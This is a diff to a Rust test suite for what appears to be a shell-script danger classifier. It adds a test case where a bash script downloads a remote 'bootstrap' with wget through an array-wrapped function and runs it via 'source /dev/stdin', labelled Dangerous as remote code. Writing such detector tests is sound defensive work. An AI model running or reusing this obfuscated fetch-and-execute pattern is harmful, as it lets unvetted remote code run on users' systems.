@@ -4152,6 +4152,14 @@ fn shell_input_run_as_code_and_elevating_wrappers() {
         ),
         (
             Sh,
+            "#!/usr/bin/env bash\ndl=(wget -q -O -)\ngrab() { \"${dl[@]}\" \"$1\"; }\n\
+             setup=\"$(grab https://cfg.example.org/bootstrap)\"\n\
+             source /dev/stdin <<< \"$setup\"\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Sh,
             "source /dev/stdin <<< 'export LC_ALL=C'\necho \"$LC_ALL\"\n",
             Clean,
             "",
